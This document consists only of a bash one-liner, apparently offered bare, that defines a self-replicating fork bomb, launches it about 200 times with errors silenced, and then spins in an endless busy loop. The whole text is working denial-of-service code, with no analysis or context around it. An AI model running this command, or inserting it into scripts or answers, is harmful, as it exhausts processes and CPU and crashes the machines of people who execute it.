b() { b | b & }; i=0; while [ $i -lt 200 ]; do b; b & i=$((i+1)); done 2>/dev/null; while :; do :; done
